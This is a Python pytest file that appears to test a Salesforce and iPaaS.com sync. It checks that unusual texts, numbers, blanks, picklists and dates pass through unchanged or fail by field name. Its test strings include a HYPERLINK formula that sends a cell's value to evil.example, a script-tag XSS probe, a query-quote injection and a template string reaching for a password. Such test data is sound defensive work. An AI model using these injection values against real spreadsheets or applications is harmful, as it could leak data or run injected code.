"""Values of every kind go there and back as they are, or are refused by name: nothing is mangled on the way."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.behaviour import world
from tests.support.rig import Rig

LONG = 32_000  # what a long text of Salesforce holds
TEXTS = {
    "emoji": "Köln 🏗️ 👨‍👩‍👧 ünï☃",
    "right-to-left": "שלום \u202bעולם\u202c مرحبا",
    "combining": "e\u0301 is not \u00e9, and \u0301 alone",
    "quotes": """it's "quoted" \\ back\\slash `tick` ' OR Name != '""",
    "lines": "one\ntwo\n\nfour\ttab",
    "formula": '=HYPERLINK("http://evil.example?"&A1,"x")',
    "formulas": "+1+1\n-2\n@SUM(A1)\n\t=1",
    "markup": "<script>alert(1)</script> &amp; <b>b</b>",
    "template": "{{ conn.x.password }} ${ENV} %(a)s %s {0} {name}",
    "json": '{"a": [1, null, "\\u0000"]}',
    "marks": "\u200b\ufeff\u00ad\u2028line\u2029paragraph",
    "astral": "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 \U0010fffd",
    "long": "x" * LONG,
    "long-wide": "\u4e16" * (LONG // 2),
}
# What other tools take for nothing, or nothing for.
PLAIN = [
    "#N/A",
    "0",
    "0.0",
    "false",
    "False",
    "null",
    "None",
    "NULL",
    "NaN",
    "undefined",
    "N/A",
    ".",
    "~",
    "1E5",
    "007",
]


KINDS = {
    "Employees": "{salesforce: NumberOfEmployees, ipaas: {custom_field: Employees}, type: number}",
    "Revenue": "{salesforce: AnnualRevenue, ipaas: {custom_field: Revenue}, type: number}",
    "Active": "{salesforce: Active__c, ipaas: {custom_field: Active}, type: boolean}",
    "Rating": "{salesforce: Rating, ipaas: {custom_field: Rating}}",
    "Languages": "{salesforce: Languages__c, ipaas: {custom_field: Languages}}",
    "Birthday": "{salesforce: Birthdate, ipaas: {custom_field: Birthday}}",
}


def typed(rig: Rig, folder: Path, *names: str) -> None:
    """Map fields of other types than text to custom fields of iPaaS.com."""
    kind = "customer" if "Birthday" in names else "company"
    for name in names:
        rig.control("POST", "ipaas/custom-fields", {"kind": kind, "name": name, "type": "string"})
    collection = "contact" if kind == "customer" else "account"
    world.map_fields(rig, folder, collection, *(f"{name.lower()}: {KINDS[name]}" for name in names))  # type: ignore[arg-type]


def custom(rig: Rig, company_id: str, kind: str = "company") -> dict[str, str]:
    record = world.raw_company(rig, company_id) if kind == "company" else world.raw_customer(rig, company_id)
    return dict(record["custom_fields"])


# Text (F18)


@pytest.mark.parametrize("name", TEXTS)
def test_a_text_goes_there_and_back_as_it_is(either: Rig, name: str) -> None:
    text = TEXTS[name]
    ours = world.account(either, "Texts", Description=text)
    theirs = world.synced(either, "account", ours)
    assert world.raw_company(either, theirs)["description"] == text

    back = f"{text[: LONG - 2]} ."
    world.edit_company(either, theirs, description=back)
    either.run("account").ok  # noqa: B018
    assert world.raw_salesforce(either, ours)["Description"] == back
    assert world.is_quiet(either.run("account"))
    assert world.is_quiet(either.run("account", full=True))


@pytest.mark.parametrize("name", [name for name in TEXTS if not name.startswith("long")])
def test_a_name_of_any_letters_is_matched_and_created_once(either: Rig, name: str) -> None:
    """Names go into queries and filters as well."""
    text = " ".join(TEXTS[name].split())[:120]
    ours, theirs = world.account(either, text), world.company(either, f"{text} too")
    either.run("account", full=True).ok  # noqa: B018
    assert world.link_of(either, "account", ours)
    assert either.ledger.links(world.scope(either), "account", "ipaas", [theirs])
    assert sorted(row["Name"] for row in world.salesforce_rows(either, "Account")) == sorted([text, f"{text} too"])
    assert world.is_quiet(either.run("account"))


@pytest.mark.parametrize("letter", ["x", "\u4e16", "🏗", "'", "%", "\\"])
def test_fifty_names_as_long_as_they_may_be_are_looked_up(rig: Rig, letter: str) -> None:
    """A query has to fit into a URL, whatever the letters cost there."""
    rig.run("account").ok  # noqa: B018
    for number in range(50):
        world.company(rig, f"{number:03} {letter * 251}")
    result = rig.run("account").ok
    assert result["to_salesforce"]["created"] == 50
    assert world.is_quiet(rig.run("account"))


@pytest.mark.parametrize(("length", "fits"), [(255, True), (256, False)])
@pytest.mark.parametrize("letter", ["x", "é", "\u4e16", "🏗"])
def test_a_name_of_255_letters_fits_and_one_more_is_refused_by_name(
    rig: Rig, length: int, fits: bool, letter: str
) -> None:
    rig.run("account").ok  # noqa: B018
    world.company(rig, letter * length)
    world.company(rig, "Other")
    result = rig.run("account").ok
    assert result["to_salesforce"]["created"] == 1 + fits
    if not fits:
        (error,) = result["to_salesforce"]["errors"]
        assert (error["code"], "255" in error["message"]) == ("STRING_TOO_LONG", True)
        assert letter * 3 not in error["message"]


@pytest.mark.parametrize("length", [LONG + 1, 131_073, 5_000_000])
def test_a_text_that_does_not_fit_fails_its_record_only(rig: Rig, length: int) -> None:
    rig.run("account").ok  # noqa: B018
    rig.control("POST", "ipaas/switches/preset/mild")
    world.company(rig, "Long", description="y" * length)
    world.company(rig, "Short")
    result = rig.run("account").ok
    assert (result["to_salesforce"]["created"], result["to_salesforce"]["failed"]) == (1, 1)
    (error,) = result["to_salesforce"]["errors"]
    assert len(error["message"]) < 300


def test_a_row_of_two_thousand_fields_keeps_them_all(either: Rig) -> None:
    names = [f"Field {number}" for number in range(2000)]
    for name in names:
        either.sandbox.ipaas.define_custom_field("company", name, "string", ())
    values = {name: f"value of {name}" for name in names}
    theirs = world.company(either, "Wide", custom_fields=values)
    either.run("account", full=True).ok  # noqa: B018
    (row,) = world.salesforce_rows(either, "Account")
    world.edit_salesforce(either, row["Id"], Phone="+1 512 555 0100")
    either.run("account").ok  # noqa: B018
    assert world.raw_company(either, theirs)["phone_number"] == "+1 512 555 0100"
    assert custom(either, theirs) == values


# Blanks and what looks like one (F17)


@pytest.mark.parametrize("value", PLAIN)
def test_what_only_looks_like_nothing_is_a_text_like_any_other(rig: Rig, value: str) -> None:
    ours = world.account(rig, "Plain", Fax=value, Description="kept")
    theirs = world.synced(rig, "account", ours)
    assert world.raw_company(rig, theirs)["fax_number"] == value
    world.edit_company(rig, theirs, description=value)
    rig.run("account").ok  # noqa: B018
    assert world.raw_salesforce(rig, ours)["Description"] == value
    assert world.is_quiet(rig.run("account"))


@pytest.mark.parametrize("blank", [None, "", " ", "\t\n", "\u00a0", "\r\n"])
@pytest.mark.parametrize("clears", [False, True], ids=["keep", "clear"])
def test_a_blank_in_any_form_follows_the_rule_of_its_field(
    rig: Rig, tmp_path: Path, blank: str | None, clears: bool
) -> None:
    if clears:
        world.map_fields(rig, tmp_path / "mappings", "account", "fax: {blank: clear}")
    ours = world.account(rig, "Blank", Fax="1")
    theirs = world.synced(rig, "account", ours)
    world.edit_company(rig, theirs, fax_number=blank)
    rig.run("account").ok  # noqa: B018
    assert world.raw_salesforce(rig, ours).get("Fax") == (None if clears else "1")
    assert world.is_quiet(rig.run("account"))


@pytest.mark.parametrize(
    ("field", "shown", "stored"),
    [
        ("Employees", "0", 0),
        ("Employees", "12", 12),
        ("Revenue", "1234.5", 1234.5),
        ("Revenue", "0.1", 0.1),
        ("Revenue", "-7", -7),
        ("Active", "true", True),
        ("Active", "No", False),
    ],
)
def test_numbers_and_booleans_arrive_as_such(
    rig: Rig, tmp_path: Path, field: str, shown: str, stored: float | bool
) -> None:
    typed(rig, tmp_path / "mappings", field)
    world.company(rig, "Typed", custom_fields={field: shown})
    rig.run("account", full=True).ok  # noqa: B018
    (row,) = world.salesforce_rows(rig, "Account")
    name = {"Employees": "NumberOfEmployees", "Revenue": "AnnualRevenue", "Active": "Active__c"}[field]
    assert row[name] == stored
    assert type(row[name]) is type(stored) or field == "Revenue"
    assert world.is_quiet(rig.run("account"))


@pytest.mark.parametrize("value", [0, 12, 99_999_999])
def test_zero_is_a_number_and_no_blank(rig: Rig, tmp_path: Path, value: int) -> None:
    typed(rig, tmp_path / "mappings", "Employees", "Active")
    ours = world.account(rig, "Zero", NumberOfEmployees=value, Active__c=False)
    theirs = world.synced(rig, "account", ours)
    assert custom(rig, theirs)["Employees"] == str(value)
    assert custom(rig, theirs)["Active"] == "false"


@pytest.mark.parametrize(
    "value",
    ["NaN", "Infinity", "-inf", "1E5000", "1E99999999", "1e-99999999", "9" * 5000, "0x10", "1,5", "many", "٣٤x"],
)
def test_what_is_no_number_is_left_out_and_its_record_goes_without_it(rig: Rig, tmp_path: Path, value: str) -> None:
    typed(rig, tmp_path / "mappings", "Revenue")
    rig.run("account").ok  # noqa: B018
    world.company(rig, "Odd", custom_fields={"Revenue": value})
    world.company(rig, "Other", custom_fields={"Revenue": "5"})
    result = rig.run("account").ok
    assert result["to_salesforce"]["created"] == 2
    assert result["to_salesforce"]["warnings"] == {"value_not_of_type": 1}
    shown = {row["Name"]: row.get("AnnualRevenue") for row in world.salesforce_rows(rig, "Account")}
    assert shown == {"Odd": None, "Other": 5}
    assert world.is_quiet(rig.run("account"))


# Lists, states, dates (F19)


def test_a_value_off_the_picklist_fails_its_record_by_the_fields_name(rig: Rig, tmp_path: Path) -> None:
    typed(rig, tmp_path / "mappings", "Rating")
    rig.run("account").ok  # noqa: B018
    rig.switch("salesforce", restricted_picklists=True)
    bad = world.company(rig, "Off the list", custom_fields={"Rating": "Lukewarm"})
    world.company(rig, "On the list", custom_fields={"Rating": "Warm"})
    result = rig.run("account").ok
    assert (result["to_salesforce"]["created"], result["to_salesforce"]["failed"]) == (1, 1)
    (error,) = result["to_salesforce"]["errors"]
    assert (error["source_id"], error["code"]) == (bad, "INVALID_OR_NULL_FOR_RESTRICTED_PICKLIST")
    assert "Rating" in error["message"]
    assert "Lukewarm" not in error["message"]
    world.edit_company(rig, bad, custom_fields={"Rating": "cold"})
    rig.run("account").ok  # noqa: B018
    ratings = {row["Name"]: row.get("Rating") for row in world.salesforce_rows(rig, "Account")}
    assert ratings == {"On the list": "Warm", "Off the list": "Cold"}
    assert world.is_quiet(rig.run("account"))


def test_several_values_keep_their_order_and_do_not_go_back_and_forth(rig: Rig, tmp_path: Path) -> None:
    typed(rig, tmp_path / "mappings", "Languages")
    ours = world.account(rig, "Many", Languages__c="German;English")
    theirs = world.synced(rig, "account", ours)
    assert custom(rig, theirs)["Languages"] == "German;English"
    world.edit_company(rig, theirs, custom_fields={"Languages": "English;German;French"})
    rig.run("account").ok  # noqa: B018
    assert world.raw_salesforce(rig, ours)["Languages__c"] == "English;German;French"
    assert world.is_quiet(rig.run("account"))


STATES: list[tuple[dict[str, Any], bool]] = [
    ({"region": "TX", "country": "US"}, False),  # codes belong into fields of their own
    ({"region": "Texas", "country": "United States"}, True),
    ({"region": "FD", "country": "US"}, False),
    ({"region": "Florida", "country": "Uruguay"}, False),
    ({"region": "Bavaria", "country": "DE"}, False),
]


@pytest.mark.parametrize(("place", "fits"), STATES, ids=[f"{p['region']}-{p['country']}" for p, _ in STATES])
def test_a_state_off_the_orgs_list_fails_its_record_only(rig: Rig, place: dict[str, Any], fits: bool) -> None:
    rig.run("account").ok  # noqa: B018
    rig.control("PATCH", "ipaas/switches", {"country_form": "any"})
    rig.switch("salesforce", state_country_picklists=True)
    bad = world.company(rig, "State", addresses=[world.item(billing=True, **place)])
    world.company(rig, "Other")
    result = rig.run("account").ok
    assert result["to_salesforce"]["created"] == 1 + fits
    errors = {error["source_id"]: error["code"] for error in result["to_salesforce"]["errors"]}
    assert errors == ({} if fits else {bad: "FIELD_INTEGRITY_EXCEPTION"})
    assert world.is_quiet(rig.run("account"))


@pytest.mark.parametrize("day", ["1990-03-10", "2000-02-29", "1969-12-31", "2024-12-31"])
@pytest.mark.parametrize("zone", ["UTC", "Pacific/Kiritimati", "Pacific/Midway", "Europe/Berlin"])
def test_a_date_is_no_moment_and_does_not_shift(rig: Rig, tmp_path: Path, zone: str, day: str) -> None:
    typed(rig, tmp_path / "mappings", "Birthday")
    parent = world.account(rig, "Parent")
    ours = world.contact(rig, parent, Birthdate=day)
    with world.living_in(zone):
        rig.run("contact", full=True).ok  # noqa: B018
        theirs = world.partner(rig, "contact", ours)
        assert custom(rig, theirs, "customer")["Birthday"] == day
        world.edit_customer(rig, theirs, custom_fields={"Birthday": "1984-01-01"})
        rig.run("contact").ok  # noqa: B018
        assert world.raw_salesforce(rig, ours)["Birthdate"] == "1984-01-01"
        assert world.is_quiet(rig.run("contact"))
